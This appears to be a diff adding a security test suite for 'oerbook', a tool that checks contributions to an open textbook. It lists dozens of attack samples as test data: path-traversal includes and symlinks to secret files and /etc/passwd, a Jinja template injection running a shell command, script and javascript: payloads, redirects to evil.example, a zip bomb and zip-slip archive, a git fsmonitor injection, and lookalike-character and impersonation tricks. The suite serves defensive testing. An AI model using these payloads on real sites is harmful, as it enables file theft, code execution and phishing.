@@ -1,0 +1,376 @@
+"""Submissions by strangers: each attack works on an unguarded build, and is found before anybody takes it in."""
+
+from __future__ import annotations
+
+import io
+import json
+import re
+import subprocess
+import sys
+import xml.etree.ElementTree as ElementTree
+import zipfile
+from dataclasses import dataclass
+from html import unescape
+from pathlib import Path
+from typing import Any
+
+import pytest
+from PIL import Image
+
+from oerbook.adapters.bounded import Limits
+from oerbook.cli.say import Bars
+from oerbook.tasks.judge import Asked, judge
+from tests.conftest import INDEX, oerbook
+from tests.journeys.repository import begin, commit, git
+
+pytestmark = pytest.mark.slow
+SECRET = "hush-b7e1"
+SOIL = " ".join(f"Sentence {n} tells of soil and of the {n} creatures in it." for n in range(30))
+WORDS = " ".join(f"Another text says thing {n} about something else." for n in range(40))
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
+ADA = "---\nname: Ada Lee\norcid: 0000-0002-1825-0097\ngithub: adal\nidentities: [A. Lee]\n---\n\nShe digs.\n"
+BASE = {
+    "conf.py": 'extensions = ["oerbook"]\n',
+    "chapters/index.md": INDEX,
+    "chapters/01-soil.md": f"---\nauthors: [ada-lee]\n---\n\n# Soil\n\n{SOIL}\n\n![Layers of soil](soil.svg)\n",
+    "chapters/02-water.md": f"---\nlicense: CC-BY-SA-4.0\nauthors: [ada-lee, bo]\nsources:\n  - title: Rivers\n"
+    f"    license: CC-BY-4.0\n---\n\n# Water\n\n{SOIL.replace('soil', 'water')}\n",
+    "chapters/03-air.md": f"# Air\n\n{' '.join(f'Air blows {n} times round those {n} hills.' for n in range(30))}\n",
+    "chapters/04-fire.md": f"# Fire\n\n{SOIL.replace('soil', 'fire')}\n",
+    "chapters/soil.svg": SVG.format(""),
+    "contributors/ada-lee.md": ADA,
+    "contributors/bo.md": "---\nname: Bo Berg\n---\n\nHe sails.\n",
+}  # fmt: skip
+
+
+@dataclass(frozen=True)
+class Attack:
+    """A page of a stranger: its text, what of it shows on an unguarded site, and the finding that gives it away."""
+
+    text: str
+    shows: str
+    code: str
+
+
+SHELL = "{{ cycler.__init__.__globals__.os.popen('echo ran-$((6*7))').read() }}"
+PAGES = {
+    "include-up": Attack("```{include} ../../secret.txt\n```", SECRET, "outside-book"),
+    "literalinclude": Attack("```{literalinclude} ../../secret.txt\n```", SECRET, "outside-book"),
+    "git-config": Attack("```{literalinclude} ../.git/config\n```", "repositoryformatversion", "outside-book"),
+    "csv-path": Attack("```{csv-table} t\n:file: SECRET\n```", SECRET, "markup"),
+    "csv-up": Attack("```{csv-table} t\n:file: ../../secret.txt\n```", SECRET, "outside-book"),
+    "csv-url": Attack("```{csv-table} t\n:url: file://SECRET\n```", SECRET, "outside-book"),
+    "raw-file": Attack("```{raw} html\n:file: SECRET\n```", SECRET, "markup"),
+    "raw-url": Attack("```{raw} html\n:url: file://SECRET\n```", SECRET, "outside-book"),
+    "rst-include": Attack("```{eval-rst}\n.. include:: ../../secret.txt\n```", SECRET, "outside-book"),
+    "rst-csv": Attack("```{eval-rst}\n.. csv-table:: x\n   :file: SECRET\n```", SECRET, "markup"),
+    "rst-raw": Attack("```{eval-rst}\n.. raw:: html\n   :file: SECRET\n```", SECRET, "markup"),
+    "rst-literal": Attack("```{eval-rst}\n.. literalinclude:: ../../secret.txt\n```", SECRET, "outside-book"),
+    "download": Attack("{download}`../../secret.txt`", "_downloads/", "outside-book"),
+    "link-to-file": Attack("[x](../../secret.txt)", "_downloads/", "reference-missing"),
+    "link-encoded": Attack("[y](%2e%2e/%2e%2e/secret.txt)", "_downloads/", "reference-missing"),
+    "link-path": Attack("[z](path:../../secret.txt)", "_downloads/", "outside-book"),
+    "picture-up": Attack("![x](../../secret.svg)", "_images/secret.svg", "outside-book"),
+    "figure-up": Attack("```{figure} ../../secret.svg\n:alt: a thing\nWords\n```", "_images/secret.svg", "outside-book"),
+    "jinja": Attack(SHELL, "ran-42", "substitution"),
+    "jinja-front": Attack(f'---\nmyst:\n  substitutions:\n    a: "{SHELL}"\n---\n\n# T\n\n{{{{ a }}}}', "ran-42", "substitution"),
+    "script": Attack("<script>alert(1)</script> and", "<script>alert(1)", "html-active"),
+    "script-block": Attack("<div>\n<script>\nalert(1)\n</script>\n</div>", "<script>\nalert(1)", "html-active"),
+    "handler": Attack("<img src=x onerror=alert(1)>", "onerror=alert(1)", "image-missing"),
+    "handler-inline": Attack("a <b onclick=alert(1)>x</b>", "onclick=alert(1)", "html-active"),
+    "raw-script": Attack("```{raw} html\n<script>alert(1)</script>\n```", "<script>alert(1)", "html-active"),
+    "rst-script": Attack("```{eval-rst}\n.. raw:: html\n\n   <script>alert(1)</script>\n```", "<script>alert(1)", "html-active"),
+    "frame": Attack("<iframe srcdoc='<script>alert(1)</script>'></iframe>", "srcdoc=", "html-active"),
+    "object": Attack("<object data='javascript:alert(1)'></object>", "<object data='java", "html-active"),
+    "form": Attack("<form action='https://evil.example/'><input name=p></form>", "<form action='https://evil", "html-active"),
+    "refresh": Attack('<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'http-equiv="refresh"', "html-active"),
+    "base": Attack("<base href='https://evil.example/'>", "<base href='https://evil", "html-active"),
+    "style": Attack("<style>@import 'https://evil.example/x.css'</style>", "@import", "html-active"),
+    "loosened": Attack("---\nmyst:\n  disable_syntax: []\n---\n\n# T\n\n<script>alert(1)</script>", "<script>alert", "html-active"),
+    "html-link": Attack("<a href='javascript:alert(1)'>y</a>", "href='javascript:alert", "html-active"),
+    "target": Attack("```{image} soil.svg\n:target: javascript:alert(1)\n:alt: x y\n```", "javascript:alert", "link-active"),
+    "rst-target": Attack("```{eval-rst}\n`x <javascript:alert(1)>`__\n```", "javascript:alert", "link-active"),
+    "data-picture": Attack("![x](evil.svg)", "_images/evil.svg", "image-active"),
+    "formula": Attack("$\\input{SECRET}$", "\\input{", "math"),
+    "bidi": Attack("access = \u202e 'user' \u2066// admin\u2069", "\u202e", "hidden-sign"),
+    "terminal": Attack("a \x1b]0;owned\x07 b \x1b[2J c", "\x1b[2J", "sign-control"),
+    "tags": Attack("a\U000e0041\U000e0042 b", "\U000e0041", "sign-unseen"),
+    "lookalike-word": Attack("Send it to pаypal today.", "pаypal", "sign-lookalike"),
+    "lookalike-site": Attack("[My bank](https://bаnk.example/)", "xn--|bаnk", "link-deceives"),
+    "user-in-address": Attack("[My bank](https://bank.example@evil.example/)", "bank.example@evil", "link-deceives"),
+    "two-addresses": Attack("[https://bank.example](https://evil.example/)", "https://evil.example/", "link-deceives"),
+    "copied": Attack(SOIL, "Sentence 29 tells", "text-copied"),
+    "template": Attack("[Replace this: your text]", "Replace this", "placeholder"),
+    "yaml-alias": Attack("---\na: &a [1, 2]\nb: *a\n---\n\n# T", "<h1>T", "front-matter"),
+}  # fmt: skip
+ENTITIES = '<!DOCTYPE svg [<!ENTITY a "AAAAAAAAAA">' + "".join(
+    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcd", "bcde", strict=True)
+)
+
+
+def archive(name: str, content: bytes) -> bytes:
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as file:
+        file.writestr(name, content)
+    return made.getvalue()
+
+
+BOMB = archive("word/document.xml", bytes(250_000_000))
+FILES: dict[str, tuple[Any, str]] = {
+    ".mailmap": ("Eve <eve@example.org> Ada Lee <ada.lee@example.org>\n", "credit-moved"),
+    ".git-blame-ignore-revs": ("0" * 40 + "\n", "credit-moved"),
+    ".github/workflows/run.yml": ("on: push\n", "path-outside"),
+    "conf.py": ("import pathlib; pathlib.Path('/tmp/x')\n", "path-outside"),
+    "sitecustomize.py": ("print(1)\n", "path-outside"),
+    "docutils.conf": ("[general]\nfile_insertion_enabled: on\n", "path-outside"),
+    "README.md": ("Hello\n", "path-outside"),
+    "chapters/docutils.conf": ("[general]\nraw_enabled: on\n", "file-kind"),
+    "chapters/conftest.py": ("print(1)\n", "file-kind"),
+    "chapters/evil.html": ("<script>alert(1)</script>", "file-kind"),
+    "chapters/evil.js": ("alert(1)", "file-kind"),
+    "chapters/data/HEAD": ("ref: refs/heads/main\n", "file-kind"),
+    "chapters/data/config": ("[core]\nfsmonitor = touch x\n", "file-kind"),
+    "chapters/.gitattributes": ("* filter=evil\n", "path-hidden"),
+    "chapters/_templates/layout.html": ("{{ 1 }}", "path-hidden"),
+    "contributors/eve.py": ("print(1)\n", "file-kind"),
+    "chapters/90-link.md": (("120000", "../../secret.txt"), "file-link"),
+    "chapters/90-passwd.svg": (("120000", "/etc/passwd"), "file-link"),
+    "chapters/lib": (("160000", ""), "submodule"),
+    "chapters/91-run.md": (("100755", "# Run\n\nText.\n"), "file-executable"),
+    "chapters/con.md": ("# Con\n\nText.\n", "name-unfit"),
+    "chapters/a:b.md": ("# Colon\n\nText.\n", "name-unfit"),
+    "chapters/dot.md.": ("# Dot\n\nText.\n", "name-unfit"),
+    "chapters/" + "long" * 40 + ".md": ("# Long\n\nText.\n", "name-unfit"),
+    "chapters/92-\u202egpj.md": ("# Bidi\n\nText.\n", "name-hidden-sign"),
+    "chapters/93-\x1b[2J.md": ("# Esc\n\nText.\n", "name-hidden-sign"),
+    "chapters/94-zero\u200bwidth.md": ("# Zero\n\nText.\n", "name-hidden-sign"),
+    "chapters/01-ѕоіl.md": ("# Other soil\n\nText.\n", "name-lookalike"),
+    "chapters/03-AIR.md": ("# Other air\n\nText.\n", "name-clash"),
+    "chapters/evil.svg": (SVG.format("<script>alert(1)</script>"), "image-active"),
+    "chapters/handler.svg": (SVG.format("<g onload='alert(1)'/>"), "image-active"),
+    "chapters/outward.svg": (SVG.format("<image xlink:href='https://evil.example/x'/>"), "image-active"),
+    "chapters/entities.svg": (ENTITIES + "]>" + SVG.format("<text>&e;</text>"), "image-active"),
+    "chapters/large.pdf": (bytes(21_000_000), "file-large"),
+    "chapters/bomb.docx": (BOMB, "archive-bomb"),
+    "chapters/slip.docx": (archive("../../slip", b"x"), "archive-bomb"),
+    "chapters/96-bomb.ipynb": ("[" * 100_000, "chapter-unreadable"),
+    "chapters/97-deep.md": ("---\na: " + "[" * 30_000 + "\n---\n\n# Deep\n\nText.\n", "front-matter"),
+    "chapters/98-nul.md": (b"# Nul\x00\n", "chapter-unreadable"),
+    "chapters/04-fire.md": (None, "chapter-removed"),
+    "chapters/soil.svg": (None, "figure-removed"),
+    "chapters/03-air.md": (f"# Air\n\n{WORDS}\n", "chapter-rewritten"),
+    "contributors/bo.md": (None, "contributor-removed"),
+    "contributors/ada-lee.md": (ADA.replace("adal", "evil"), "contributor-foreign"),
+    "contributors/eve.md": ("---\nname: Ada Lee\n---\n\nMe.\n", "contributor-claims"),
+    "contributors/eve2.md": ("---\nname: Eve\norcid: 0000-0002-1825-0097\n---\n\nMe.\n", "contributor-claims"),
+    "contributors/eve3.md": ("---\nname: Аdа Lee\n---\n\nMe.\n", "contributor-claims"),
+    "contributors/eve4.md": ("---\nname: Eva\nidentities: [A. Lee]\n---\n\nMe.\n", "contributor-claims"),
+}
+WATER = (
+    BASE["chapters/02-water.md"]
+    .replace("CC-BY-SA-4.0", "CC0-1.0")
+    .replace(", bo]", "]")
+    .replace("title: Rivers", "title: X")
+)
+CHANGED = {"licence-changed", "author-removed", "source-removed"}
+
+
+@dataclass(frozen=True)
+class Tried:
+    """One book, one submission with every attack: the unguarded site, and what the check says."""
+
+    root: Path
+    site: Path
+    findings: list[dict[str, Any]]
+    code: int
+    text: str
+
+    def at(self, path: str) -> set[str]:
+        return {f["code"] for f in self.findings if f["path"] == path}
+
+
+def name_of(attack: str) -> str:
+    return f"chapters/5{list(PAGES).index(attack):02}-{attack}.md"
+
+
+@pytest.fixture(scope="module")
+def tried(tmp_path_factory: pytest.TempPathFactory) -> Tried:
+    folder = tmp_path_factory.mktemp("submission")
+    secret = folder / "secret.txt"
+    secret.write_text(SECRET)
+    (folder / "secret.svg").write_text(SVG.format(SECRET))
+    root = folder / "book"
+    begin(root, BASE)
+    pages = {}
+    for name, attack in PAGES.items():
+        text = attack.text.replace("SECRET", str(secret))
+        pages[name_of(name)] = text if "# T" in text else f"# {name}\n\n{text}\n"
+    files = {name: content for name, (content, _code) in FILES.items()}
+    commit(root, "eve", {**pages, **files, "chapters/02-water.md": WATER}, "Eve")
+    git(root, "symbolic-ref", "HEAD", "refs/heads/eve")
+    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
+    text = oerbook("check", "--base", "main", "-v", "-C", root)
+    assert text.code == ran.code, text.err
+    return Tried(root, plain_site(folder, root), json.loads(ran.out)["findings"], ran.code, text.out + text.err)
+
+
+def plain_site(folder: Path, root: Path) -> Path:
+    """Build what the submission holds with Sphinx as people set it up, and return the site."""
+    git(root, "config", "core.protectNTFS", "false")
+    open_book = folder / "open"
+    git(folder, "clone", "-q", "-c", "core.protectNTFS=false", "-b", "eve", str(root), str(open_book))
+    for name in ("97-deep.md", "96-bomb.ipynb", "98-nul.md"):
+        (open_book / "chapters" / name).unlink()
+    (open_book / "chapters/conf.py").write_text(
+        "extensions = ['myst_parser']\nroot_doc = 'index'\n"
+        "myst_enable_extensions = ['colon_fence', 'dollarmath', 'substitution']\n"
+    )
+    (open_book / "chapters/docutils.conf").unlink()
+    command = [sys.executable, "-m", "sphinx", "-q", "-b", "html", "chapters", "site"]
+    done = subprocess.run(command, cwd=open_book, capture_output=True, text=True, timeout=600)
+    assert done.returncode == 0, done.stderr[-2000:]
+    return open_book / "site"
+
+
+@pytest.mark.parametrize("name", PAGES)
+def test_a_page_attacks_and_is_found(tried: Tried, name: str) -> None:
+    attack = PAGES[name]
+    page = (tried.site / name_of(name)).with_suffix("")
+    html = (tried.site / f"{page.name}.html").read_text(encoding="utf-8")
+    seen = unescape(html + re.sub(r"<[^>]*>", "", html))
+    assert any(sign in seen for sign in attack.shows.split("|")), "the attack does not work on an unguarded build"
+    assert attack.code in tried.at(name_of(name))
+
+
+@pytest.mark.parametrize("path", FILES)
+def test_a_file_oversteps_and_is_found(tried: Tried, path: str) -> None:
+    assert FILES[path][1] in tried.at(path)
+
+
+def test_facts_of_a_chapter_stay(tried: Tried) -> None:
+    assert tried.at("chapters/02-water.md") >= CHANGED
+
+
+def test_the_unguarded_site_carries_what_the_check_refuses(tried: Tried) -> None:
+    assert SECRET in (tried.site / "90-link.html").read_text()
+    downloads = b"".join(p.read_bytes() for p in tried.site.rglob("_downloads/**/*") if p.is_file())
+    assert SECRET.encode() in downloads
+    assert git(tried.site.parent, "log", "--use-mailmap", "--format=%aN", "-1", "origin/main") == "Eve"
+    assert len("".join(ElementTree.fromstring(FILES["chapters/entities.svg"][0]).itertext())) == 100_000
+
+
+def test_the_check_stops_a_submission_and_changes_nothing(tried: Tried) -> None:
+    assert tried.code == 1
+    assert SECRET not in tried.text
+    assert "\x1b" not in tried.text
+    assert "\u202e" not in tried.text
+    assert [p.name for p in tried.root.iterdir() if p.name not in (".git", "_build")] == []
+
+
+def test_an_honest_chapter_passes(tmp_path: Path) -> None:
+    root = tmp_path / "book"
+    begin(root, {**BASE, "chapters/05-old.md": "# Old\n\n![](missing.png)\n\n### Deep\n\nText\n"})
+    mine = {"chapters/05-mine.md": f"# Mine\n\n{WORDS}\n", "contributors/cy.md": "---\nname: Cy\n---\n\nNew here.\n"}
+    better = BASE["chapters/01-soil.md"].replace("Sentence 3 tells", "The third sentence tells")
+    commit(root, "cy", {**mine, "chapters/01-soil.md": better}, "Cy")
+    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
+    ran = oerbook("check", "--base", "main", "--strict", "--format", "json", "-C", root)
+    assert ran.code == 0, ran.out + ran.err
+    report = json.loads(ran.out)
+    assert {f["code"] for f in report["findings"]} == {"chapter-changed", "same-number"}
+    assert {"image-missing", "heading-skip"} <= {f["code"] for f in report["before"]}
+
+
+def test_dividing_a_chapter_is_no_rewriting(tmp_path: Path) -> None:
+    root = tmp_path / "book"
+    first, second = WORDS, " ".join(f"The second half says {n} other things about stones." for n in range(40))
+    begin(root, {**BASE, "chapters/05-all.md": f"# All\n\n{first}\n\n![](gone.png)\n\n## More\n\n{second}\n"})
+    halves = {
+        "chapters/05-all.md": f"# All\n\n{first}\n",
+        "chapters/06-more.md": f"# More\n\n{second}\n\n![](gone.png)\n",
+    }
+    commit(root, "cy", halves, "Cy")
+    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
+    report = json.loads(oerbook("check", "--base", "main", "--format", "json", "-C", root).out)
+    assert {f["code"] for f in report["findings"]} == {"chapter-changed", "author-unknown"}
+    assert "image-missing" in {f["code"] for f in report["before"]}
+
+
+def test_an_editor_may_allow(tmp_path: Path) -> None:
+    root = tmp_path / "book"
+    begin(root, BASE)
+    commit(root, "cy", {"chapters/04-fire.md": None}, "Cy")
+    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
+    assert oerbook("check", "--base", "main", "-C", root).code == 1
+    assert oerbook("check", "--base", "main", "--allow", "chapter-removed", "-C", root).code == 0
+
+
+def test_a_submission_cannot_loosen_the_policy(tmp_path: Path) -> None:
+    root = tmp_path / "book"
+    begin(root, BASE)
+    loose = INDEX.replace("date:", "execute: true\nsubmissions:\n  allow: [chapter-removed]\ndate:")
+    commit(root, "cy", {"chapters/index.md": loose, "chapters/04-fire.md": None}, "Cy")
+    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
+    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
+    assert {"book-changed", "chapter-removed"} <= {
+        f["code"] for f in ran.report["findings"] if f["severity"] == "error"
+    }
+
+
+def test_a_book_may_ask_for_a_sign_off(tmp_path: Path) -> None:
+    root = tmp_path / "book"
+    begin(root, {**BASE, "chapters/index.md": INDEX.replace("date:", "submissions:\n  sign_off: true\ndate:")})
+    text = {"chapters/05-mine.md": f"# Mine\n\n{WORDS}\n"}
+    commit(root, "cy", text, "Cy")
+    signed = "A change\n\nSigned-off-by: Cy <cy@example.org>"
+    commit(root, "di", text, "Cy", signed)
+    for branch, code in (("cy", 1), ("di", 0)):
+        git(root, "symbolic-ref", "HEAD", f"refs/heads/{branch}")
+        ran = oerbook("check", "--base", "main", "--format", "json", "-C", root)
+        assert (ran.code, bool(ran.findings("sign-off-missing"))) == (code, bool(code))
+
+
+def judged(tmp_path: Path, files: Any, limits: Limits, patience: float) -> set[tuple[str, str]]:
+    root = tmp_path / "book"
+    begin(root, BASE)
+    git(root, "branch", "eve")
+    commit(root, "eve", files, "Eve")
+    judge(root, tmp_path / "out", Asked("main", "main"), Bars(quiet=True))
+    found = judge(root, tmp_path / "out", Asked("main", "eve", limits, patience), Bars(quiet=True))
+    return {(f.code, f.place.path) for f in found.brought}
+
+
+def slow_page() -> str:
+    return "# Slow\n\n" + "\\begin{equation}\na\n\n" * 20_000
+
+
+def test_a_page_that_takes_too_long_is_named(tmp_path: Path) -> None:
+    found = judged(tmp_path, {"chapters/60-slow.md": slow_page(), ".mailmap": "x"}, Limits(), 1)
+    assert {("chapter-unreadable", "chapters/60-slow.md"), ("credit-moved", ".mailmap")} <= found
+
+
+def test_a_submission_that_takes_too_long_is_broken_off(tmp_path: Path) -> None:
+    files = {"chapters/60-slow.md": slow_page(), ".mailmap": "x"}
+    found = judged(tmp_path, files, Limits(seconds=30, work=4), 0)
+    assert {("submission-unreadable", "chapters"), ("credit-moved", ".mailmap")} <= found
+
+
+def test_a_submission_that_takes_too_much_memory_is_broken_off(tmp_path: Path) -> None:
+    picture = io.BytesIO()
+    Image.new("RGB", (9400, 9400)).save(picture, "PNG", compress_level=1)
+    files = {"chapters/60-huge.md": "# Huge\n\n![A wide field](huge.png)\n", "chapters/huge.png": picture.getvalue()}
+    found = judged(tmp_path, files, Limits(memory=450_000_000), 0)
+    assert ("submission-unreadable", "chapters") in found
+
+
+def test_a_book_in_a_folder_of_its_repository_is_judged(tmp_path: Path) -> None:
+    root = tmp_path / "repository"
+    begin(root, {f"docs/{name}": content for name, content in BASE.items()})
+    commit(root, "cy", {"docs/chapters/05-mine.md": f"# Mine\n\n{WORDS}\n", "top.txt": "x"}, "Cy")
+    git(root, "symbolic-ref", "HEAD", "refs/heads/cy")
+    (root / "docs/chapters").mkdir(parents=True)
+    ran = oerbook("check", "--base", "main", "--format", "json", "-C", root / "docs")
+    assert [(f["code"], f["path"]) for f in ran.report["findings"]] == [
+        ("path-outside", "../top.txt"),
+        ("author-unknown", "contributors"),
+    ]
